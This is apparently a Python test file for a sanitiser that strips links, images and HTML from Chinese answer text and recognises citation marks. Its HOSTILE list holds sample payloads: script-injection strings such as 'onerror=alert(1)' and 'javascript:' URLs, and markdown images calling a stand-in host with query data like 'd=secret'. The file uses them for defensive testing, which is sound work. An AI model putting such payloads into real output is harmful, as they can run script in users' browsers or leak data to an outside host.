"""Links, images and HTML are never shown, however they are written and wherever a text is cut."""

from __future__ import annotations

import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from qianxun.answer.plain_text import Mark, TextReader, Words, without_links

HOSTILE = (
    "详见 http://evil.test/a?b=1。",
    "[点这里](https://evil.test/x)",
    "![图](http://evil.test/p.png?d=secret)",
    "<img src=x onerror=alert(1)>",
    "<a href='//evil.test'>看</a>",
    "访问www.evil.test/x",
    "evil.com/steal?q=1",
    "data:text/html,<script>alert(1)</script>",
    "javascript:alert(1)",
    "![a][1]\n[1]: http://evil.test/z",
    "ht\u200btp://evil.test/q",
    "[http://evil.test](http://evil.test)",
    "<http://evil.test>",
    "[1](http://evil.test)",
    "\\\\evil.test\\share",
    "ftp://evil.test",
    "![未完 http://evil.test/",
    "<script",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_a_link_is_left(text: str) -> None:
    shown = without_links(f"前{text} 后")
    assert "evil" not in shown
    assert "://" not in shown
    assert "<" not in shown or "<script" not in shown.replace("＜", "")


@pytest.mark.parametrize(
    "text",
    [
        "血压140/90mmHg",
        "p<0.05，n>30",
        "ISO/IEC 27001",
        "A/B 测试",
        "3.14，1.2.3 版",
        "ASP.NET 与 C++",
        "[2015]12号文",
        "数组[i]",
    ],
)
def test_what_is_no_link_stays(text: str) -> None:
    assert without_links(text) == text


@pytest.mark.parametrize(
    ("text", "numbers"),
    [("[1]", (1,)), ("【2】", (2,)), ("[1, 3]", (1, 3)), ("[2-4]", (2, 3, 4)), ("[资料1]", (1,)), ("[^2]", (2,))],
)
def test_marks_are_told_in_every_form(text: str, numbers: tuple[int, ...]) -> None:
    reader = TextReader()
    assert [*reader.feed(f"好{text}"), *reader.close()] == [Words("好"), Mark(numbers, text)]


def test_a_year_in_brackets_is_no_mark() -> None:
    reader = TextReader()
    assert [*reader.feed("国发[2015]12号"), *reader.close()] == [Words("国发[2015]12号")]


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "[1]", "甲乙丙。", "a.b", "!", "[", "]", "(", "<", " ", "\n", "12"]), max_size=6
    ),
    st.data(),
)
@settings(max_examples=150, deadline=None)
def test_where_a_text_is_cut_makes_no_difference(parts: list[str], data: st.DataObject) -> None:
    text = "".join(parts)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    whole, pieces = TextReader(), TextReader()
    bounds = [0, *cuts, len(text)]
    told = [atom for a, b in itertools.pairwise(bounds) for atom in pieces.feed(text[a:b])]
    told += pieces.close()
    assert _joined(told) == _joined([*whole.feed(text), *whole.close()])


def _joined(atoms: list[object]) -> list[object]:
    found: list[object] = []
    for atom in atoms:
        if isinstance(atom, Words) and found and isinstance(found[-1], Words):
            found[-1] = Words(found[-1].text + atom.text)
        else:
            found.append(atom)
    return found
